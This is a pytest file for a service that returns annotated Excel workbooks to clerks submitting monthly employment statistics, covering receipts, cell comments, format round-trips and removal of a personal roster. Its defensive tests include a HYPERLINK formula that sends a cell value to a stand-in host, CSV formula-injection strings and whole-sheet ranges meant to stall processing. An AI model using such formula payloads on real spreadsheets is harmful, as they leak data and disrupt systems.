"""The workbook that goes back: what a clerk sees in it, and what the reader makes of it when it returns."""

import re
from collections.abc import Mapping
from dataclasses import replace
from io import BytesIO
from pathlib import Path
from zipfile import ZIP_DEFLATED, ZipFile

import openpyxl
import pytest
from openpyxl import Workbook
from openpyxl.comments import Comment

from flows.plan.catalogue import Catalogue
from flows.plan.observation import Reading, Refusal
from flows.submissions.form.form_spec import Entry, FormSpec
from flows.submissions.formats.grid import Broken, Grid, Opened
from flows.submissions.read_form import open_or_refuse, read, understand
from flows.submissions.receipts.receipt import Receipt, receipt
from flows.submissions.receipts.returned.workbook import returned_workbook
from tests.submissions.conftest import (
    DEADLINES,
    KNOWN,
    NAME,
    RECEIVED_AT,
    SHA256,
    filled,
    named,
    total,
    understood,
)
from tests.submissions.make_cases import edited, saved

CASES = sorted(path for path in (Path(__file__).parent / "cases").iterdir() if path.is_dir())
IDENTITY = "150523199001011234"

# One error, one query, one answered query: F9, G6 and G10 of the form.
NUMBER = r"2506-[0-9A-Z]{8}"
ROWS = {
    "urban_new_jobs": total("110", "617"),
    "tertiary_jobs": total("约236", "1246"),
    "flexible_jobs": total("-3", "118", reason="与社保数据比对，核减重复统计3人"),
}


def answered(
    catalogue: Catalogue, name: str, content: bytes
) -> tuple[Reading | Refusal, Receipt, Opened | Refusal]:
    """A file read, its receipt, and the file as opened."""
    opened = open_or_refuse(name, content)
    outcome = read(name, content, catalogue, lambda *_: KNOWN)
    due = None if isinstance(outcome, Refusal) else DEADLINES
    return outcome, receipt(name, SHA256, RECEIVED_AT, outcome, catalogue, due), opened


def back(catalogue: Catalogue, content: bytes, name: str = NAME) -> bytes:
    """The workbook that goes back for this file."""
    _, given, opened = answered(catalogue, name, content)
    return returned_workbook(content, None if isinstance(opened, Refusal) else opened, given)


def loaded(content: bytes) -> Workbook:
    return openpyxl.load_workbook(BytesIO(content))


@pytest.fixture(scope="module")
def marked(catalogue: Catalogue, form: FormSpec) -> bytes:
    return back(catalogue, filled(form, ROWS))


def test_the_receipt_stands_before_the_senders_sheets(marked: bytes) -> None:
    book = loaded(marked)
    assert book.sheetnames == ["回执", "月报", "填表说明"]
    assert book.active.title == "回执"
    said = [cell.value for row in book["回执"].iter_rows() for cell in row if cell.value]
    assert said[:2] == [
        "回执：已接收，有 2 项需要处理",
        (
            "下一步：请在退回的工作簿里改正标出的单元格，在 2025年7月15日前把整个文件重新报送；需要核实的，填错的直接改正，"
            "没有填错的在同一行“原因说明”写明原因，写“核实无误”不算说明。以最后一次报送为准。"
        ),
    ]
    assert {SHA256, "2025年7月4日 09:30", "开鲁县", "2025年6月（期限 2025年7月7日，按时）"} <= set(said)
    # 20 cells, of which one is blocked and two say zero
    assert "共读取 20 个数据格：已报 17 个、确认为零 2 个、数据待核 1 个；文字 3 段。" in said


def test_every_item_stands_in_the_table_with_a_link_to_its_cell(marked: bytes) -> None:
    sheet = loaded(marked)["回执"]
    (head,) = [cell.row for cell in sheet["A"] if cell.value == "序号"]
    rows = [[cell.value for cell in row[:8]] for row in sheet.iter_rows(min_row=head + 1, max_row=head + 3)]
    assert [row[:3] for row in rows] == [
        ["1", "需要改正", "月报!F9"],
        ["2", "需要核实", "月报!G6"],
        ["3", "已有说明", "月报!G10"],
    ]
    assert all(re.fullmatch(NUMBER, row[7]) for row in rows)
    links = [sheet.cell(head + n, 3).hyperlink.location for n in (1, 2, 3)]
    assert links == ["'月报'!F9", "'月报'!G6", "'月报'!G10"]


def test_an_error_and_a_query_differ_by_their_line_too(marked: bytes) -> None:
    sheet = loaded(marked)["月报"]
    lines = {cell: sheet[cell].border.left.style for cell in ("F9", "G6", "G10", "G7")}
    assert lines == {"F9": "thick", "G6": "mediumDashed", "G10": "thin", "G7": "thin"}
    assert len({sheet[cell].fill.fgColor.rgb for cell in ("F9", "G6", "G7")}) == 3


def test_the_comment_says_what_was_expected_found_and_to_be_done(marked: bytes) -> None:
    sheet = loaded(marked)["月报"]
    text, _, number = sheet["G6"].comment.text.partition("\n编号：")
    assert re.fullmatch(NUMBER, number)
    assert text == (
        "〔回执第2项〕需要核实\n城镇新增就业（累计）\n应为：上月累计 497 加本月 110，即 607\n填报为：617\n"
        "怎么办：请核对本月和累计；确有核减或补报的，在“原因说明”写明原因后重新报送。"
    )
    assert sheet["F9"].comment.text.startswith("〔回执第1项〕需要改正\n三产新增就业岗位（本月）\n")
    assert sheet["G10"].comment is None


def test_the_sender_keeps_his_look_his_notes_and_his_checks(marked: bytes, form: FormSpec) -> None:
    before, after = loaded(filled(form, ROWS))["月报"], loaded(marked)["月报"]
    assert after.column_dimensions["B"].width == before.column_dimensions["B"].width
    assert after["A1"].font.name == before["A1"].font.name == "方正小标宋简体"
    assert after["B7"].comment.text == before["B7"].comment.text
    assert after["J6"].value == before["J6"].value
    assert after.protection.sheet is True
    assert {str(v.sqref) for v in after.data_validations.dataValidation} == {
        str(v.sqref) for v in before.data_validations.dataValidation
    }


def test_a_note_is_as_tall_as_its_text(marked: bytes) -> None:
    with ZipFile(BytesIO(marked)) as parts:
        drawing = parts.read("xl/drawings/commentsDrawing1.vml").decode()
    heights = [float(height) for height in re.findall(r"height:([\d.]+)px", drawing)]
    assert len(heights) == 10 + 2  # a note on each indicator, ours on two cells
    assert min(heights) >= 19 * 4  # three lines and room for one


def test_computed_cells_still_show_their_results(marked: bytes) -> None:
    shown = openpyxl.load_workbook(BytesIO(marked), data_only=True)["月报"]
    assert (shown["J6"].value, shown["J7"].value) == ("与上月累计+本月不符", "可以报送")


def test_the_same_file_goes_back_as_the_same_bytes(
    catalogue: Catalogue, form: FormSpec, marked: bytes
) -> None:
    assert back(catalogue, filled(form, ROWS)) == marked


@pytest.mark.parametrize("case", CASES, ids=lambda path: path.name)
def test_what_goes_back_is_read_like_the_original(case: Path, catalogue: Catalogue) -> None:
    """Without the receipt, the marks and the comments; only a list of persons is gone, and what was said of it."""
    (file,) = (path for path in case.iterdir() if path.name != "case.json")
    if case.name in GATHERED:
        return
    outcome, given, opened = answered(catalogue, file.name, file.read_bytes())
    sheets = None if isinstance(opened, Refusal) else opened
    content = returned_workbook(file.read_bytes(), sheets, given)
    again = read(file.with_suffix(".xlsx").name.removeprefix("~$"), content, catalogue, lambda *_: KNOWN)
    if sheets is None:
        assert isinstance(again, Refusal) and again.reason == "文件里只有回执，没有报表"
    elif isinstance(outcome, Reading) and sheets.is_personal:
        assert isinstance(again, Reading)
        assert (again.observations, again.problems) == (outcome.observations, outcome.problems)
        assert not any("花名册" in sentence for sentence in again.decisions)
    elif case.name in TEXT_BOXES:  # goes back as a note under the table: the library keeps no shapes
        assert isinstance(again, Reading) and isinstance(outcome, Reading)
        assert again.observations == outcome.observations
    else:
        assert again == outcome


TEXT_BOXES = ("text_box_of_last_year_as_xls",)
GATHERED = ("sheet_for_each_county", "counties_by_the_city", "several_counties_without_a_reporter")


@pytest.mark.parametrize("name", GATHERED)
def test_a_part_of_a_gathered_file_goes_back_alone_and_comes_as_the_countys_own(
    name: str, catalogue: Catalogue
) -> None:
    (file,) = (path for path in (CASES[0].parent / name).iterdir() if path.name != "case.json")
    opened = open_or_refuse(file.name, file.read_bytes())
    assert isinstance(opened, Opened)
    for part in understand(file.name, opened, catalogue, lambda *_: KNOWN):
        assert isinstance(part.outcome, Reading)
        own = replace(opened, grids=part.grids)
        given = receipt(NAME, SHA256, RECEIVED_AT, part.outcome, catalogue, DEADLINES, None, part.reporter)
        content = returned_workbook(file.read_bytes(), own, given)
        back_as = f"各地6月（退回修改）-0123456789ab-{given.part}.xlsx"
        again = read(back_as, content, catalogue, lambda *_: KNOWN)
        if name == "counties_by_the_city":  # its label says the office's name, not the county's
            assert isinstance(again, Refusal)
        else:
            assert isinstance(again, Reading)
            assert (again.reporter, again.observations) == (part.reporter, part.outcome.observations)


@pytest.mark.parametrize("kind", ["xlsx", "xls", "ods"])
def test_it_is_read_the_same_after_another_program_saved_it(
    kind: str, marked: bytes, catalogue: Catalogue, form: FormSpec
) -> None:
    original = read(NAME, filled(form, ROWS), catalogue, lambda *_: KNOWN)
    name = NAME.replace("xlsx", kind)
    assert read(name, saved(marked, kind), catalogue, lambda *_: KNOWN) == original


def test_a_computed_error_is_found_as_it_shows_not_as_its_comment_says(
    catalogue: Catalogue, form: FormSpec
) -> None:
    """Saved as .ods, the comment stands inside the cell, before what it shows."""
    content = back(catalogue, saved(edited(filled(form), {"F6": "=1/0"}), "xlsx"))
    reading = understood(read("开鲁6月.ods", saved(content, "ods"), catalogue, lambda *_: KNOWN))
    assert named(reading, "error_value").found == "#DIV/0!"


def test_what_is_corrected_in_it_stands_and_the_old_marks_are_gone(
    catalogue: Catalogue, form: FormSpec, marked: bytes
) -> None:
    mended = edited(marked, {"F9": 236, "G6": 607})
    reading = understood(read(NAME, mended, catalogue, lambda *_: KNOWN))
    assert [p.rule for p in reading.problems] == ["falling_running_total"]  # 118 < 121, and explained
    worse = edited(marked, {"F9": 236})
    sheet = loaded(back(catalogue, worse))["月报"]
    original = loaded(filled(form, ROWS))["月报"]
    assert sheet["F9"].comment is None
    assert sheet["F9"].border.left.style == original["F9"].border.left.style
    assert sheet["F9"].fill.fgColor.rgb == original["F9"].fill.fgColor.rgb
    assert sheet["G6"].comment.text.count("〔回执第") == 1
    assert loaded(back(catalogue, worse)).sheetnames == ["回执", "月报", "填表说明"]


def test_a_comment_of_the_senders_own_stays_under_ours_and_alone_when_ours_goes(
    catalogue: Catalogue, form: FormSpec
) -> None:
    book = loaded(filled(form, ROWS))
    book["月报"]["G6"].comment = Comment("已核对", "甲")
    buffer = BytesIO()
    book.save(buffer)
    once = back(catalogue, buffer.getvalue())
    assert loaded(once)["月报"]["G6"].comment.text.endswith("\n〔原批注〕\n已核对")
    twice = back(catalogue, edited(once, {"G6": 607}))
    assert loaded(twice)["月报"]["G6"].comment.text == "已核对"


def test_a_table_saved_as_text_comes_back_as_a_workbook_with_texts_as_texts(catalogue: Catalogue) -> None:
    rows = [
        "填报单位：开鲁县,报告期：2025年6月", "指标,本月,累计,原因说明",
        "城镇新增就业,110,617,=1+1<b>", "二产新增就业岗位,31,161,@SUM(1)",
    ]  # fmt: skip
    content = back(catalogue, "\n".join(rows).encode("gb18030"), "开鲁6月.csv")
    sheet = loaded(content)["开鲁6月"]
    assert (sheet["D3"].value, sheet["D3"].data_type) == ("=1+1<b>", "s")
    assert sheet["C3"].comment.text.startswith("〔回执第1项〕")
    assert (sheet["D4"].value, sheet["D4"].data_type) == ("@SUM(1)", "s")


def test_a_receipt_saved_as_text_is_no_report(marked: bytes, catalogue: Catalogue) -> None:
    """Saving as CSV keeps the sheet in view, and that is the receipt."""
    text = saved(marked, "csv:Text - txt - csv (StarCalc):44,34,76,1,,0,false,true")
    outcome = read("开鲁6月.csv", text, catalogue, lambda *_: KNOWN)
    assert isinstance(outcome, Refusal) and outcome.reason == "文件里只有回执，没有报表"


def test_a_file_that_cannot_be_opened_gets_the_receipt_alone(catalogue: Catalogue) -> None:
    book = loaded(back(catalogue, b"%PDF-1.7 ..."))
    assert book.sheetnames == ["回执"]
    said = [cell.value for cell in book["回执"]["A"] if cell.value]
    assert said[0] == "回执：不予接收"
    assert any("PDF" in text for text in said)


def with_persons(form: FormSpec, cells: Mapping[str, Entry] = ROWS) -> bytes:
    """A list of persons on a sheet of its own, a comment with a number, a formula over the list."""
    book = loaded(filled(form, cells))
    people = book.create_sheet("花名册")
    people.append(["姓名", "身份证号"])
    people.append(["甲某", IDENTITY])
    book["月报"]["G7"].comment = Comment(f"甲某 {IDENTITY}", "甲")
    book["月报"]["G8"] = "=COUNTA(花名册!A2:A9)"
    buffer = BytesIO()
    book.save(buffer)
    return buffer.getvalue()


def test_a_workbook_with_a_list_of_persons_goes_back_without_it(catalogue: Catalogue, form: FormSpec) -> None:
    content = back(catalogue, with_persons(form))
    with ZipFile(BytesIO(content)) as parts:
        everything = b"".join(parts.read(name) for name in parts.namelist())
    assert IDENTITY.encode() not in everything
    assert "甲某 ".encode() not in everything
    assert "花名册!".encode() not in everything  # counting an empty list would make a number zero
    assert "花名册" not in loaded(content).sheetnames


def test_formulas_that_ask_outside_the_workbook_come_back_as_what_they_showed(
    catalogue: Catalogue, form: FormSpec
) -> None:
    book = loaded(filled(form, ROWS))
    book["月报"]["I7"] = '=HYPERLINK("http://x/?"&G6,"点我")'
    buffer = BytesIO()
    book.save(buffer)
    sheet = loaded(back(catalogue, buffer.getvalue()))["月报"]
    assert sheet["I7"].data_type != "f"


def test_a_zero_that_a_formula_gave_confirms_nothing_when_it_comes_back(
    catalogue: Catalogue, form: FormSpec
) -> None:
    """Also where the formula itself is left out, because it asks outside the workbook."""
    asks_outside = saved(edited(filled(form, ROWS), {"F8": '=N("http://x")', "F7": "=1-1"}), "xlsx")
    before = understood(read(NAME, asks_outside, catalogue, lambda *_: KNOWN))
    assert [p.cell for p in before.problems if p.rule == "zero_from_formula"] == ["F7", "F8"]
    content = back(catalogue, asks_outside)
    assert loaded(content)["月报"]["F8"].value == "=0"
    assert read(NAME, content, catalogue, lambda *_: KNOWN) == before


@pytest.mark.parametrize(
    "xml",
    [
        b'<mergeCell ref="K1:XFD1048576"/>',
        b'<hyperlink ref="A1:XFD1048576" location="x"/>',
    ],
    ids=["a range over the sheet", "a link over the sheet"],
)
def test_a_range_over_the_whole_sheet_does_not_stall_the_answer(
    xml: bytes, catalogue: Catalogue, form: FormSpec
) -> None:
    content = BytesIO()
    with ZipFile(BytesIO(filled(form, ROWS))) as parts, ZipFile(content, "w", ZIP_DEFLATED) as changed:
        for name in parts.namelist():
            part = parts.read(name)
            if name == "xl/worksheets/sheet1.xml":
                part = part.replace(b"</mergeCells>", xml + b"</mergeCells>")
            changed.writestr(name, part)
    book = loaded(back(catalogue, content.getvalue()))
    assert book.sheetnames[:2] == ["回执", "月报"]
    assert book["月报"]["F9"].comment is not None


def test_what_is_larger_than_any_form_gets_the_receipt_alone(catalogue: Catalogue, form: FormSpec) -> None:
    _, given, _ = answered(catalogue, NAME, filled(form, ROWS))
    large = Opened((Grid("月报", [["一"] * 100] * 201),))  # 100 × 201 > 20000
    assert loaded(returned_workbook(b"", large, given)).sheetnames == ["回执"]


def test_what_no_workbook_may_hold_is_left_out_of_it(catalogue: Catalogue, form: FormSpec) -> None:
    reading = understood(read(NAME, filled(form, ROWS), catalogue, lambda *_: KNOWN))
    odd = replace(reading.problems[0], found="\x00\x0b\ud800甲", sheet="月报", cell="A1")
    given = receipt(NAME, SHA256, RECEIVED_AT, replace(reading, problems=(odd,)), catalogue, DEADLINES)
    grid = Grid("月报", [["\x01乙", float("nan"), Broken("\x02丙")]])
    sheet = loaded(returned_workbook(b"", Opened((grid,)), given))["月报"]
    assert [cell.value for cell in sheet[1]] == ["乙", "#NUM!", "#VALUE!"]
    assert "填报为：甲\n" in sheet["A1"].comment.text
